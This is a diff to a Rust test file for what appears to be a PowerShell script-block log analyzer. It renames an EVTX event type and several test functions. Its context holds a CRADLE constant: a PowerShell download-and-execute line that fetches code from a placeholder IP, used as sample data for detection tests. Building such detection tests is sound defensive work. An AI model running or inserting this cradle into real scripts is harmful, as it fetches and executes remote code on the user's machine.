@@ -4,7 +4,7 @@ use std::collections::BTreeMap;
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use evtx_writer::{Event, FileTime, LogWriter, Payload};
+use evtx_writer::{EvtxEvent, FileTime, LogWriter, Payload};
 use serde_json::Value;
 use sha2::{Digest, Sha256};
 
@@ -81,7 +81,7 @@ fn the_sessions_scripts_are_those_of_the_script() {
 }
 
 #[test]
-fn scripts_are_left_away_and_replaced_as_told() {
+fn scripts_are_replaced_with_force_and_omitted_with_no_scripts() {
     let folder = tempfile::tempdir().unwrap();
     let out = folder.path().join("out");
     assert_eq!(analyze("samples", &out, &["--no-scripts"]), 0);
@@ -106,7 +106,7 @@ fn log(folder: &Path, blocks: &[(&str, u32, u32, &str, &str)]) -> String {
             ("ScriptBlockId", (*id).to_owned()),
             ("Path", (*path).to_owned()),
         ];
-        let event = Event {
+        let event = EvtxEvent {
             provider: "Microsoft-Windows-PowerShell".to_owned(),
             event_id: 4104,
             record_id,
@@ -118,7 +118,7 @@ fn log(folder: &Path, blocks: &[(&str, u32, u32, &str, &str)]) -> String {
                     .map(|(name, value)| ((*name).to_owned(), value.as_str().into()))
                     .collect(),
             ),
-            ..Event::default()
+            ..EvtxEvent::default()
         };
         log.push(&event).unwrap();
     }
@@ -130,7 +130,7 @@ fn log(folder: &Path, blocks: &[(&str, u32, u32, &str, &str)]) -> String {
 const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";
 
 #[test]
-fn outside_sessions_what_tells_something_has_a_file() {
+fn informative_scripts_outside_sessions_have_a_file() {
     let folder = tempfile::tempdir().unwrap();
     let out = folder.path().join("out");
     let blocks = [
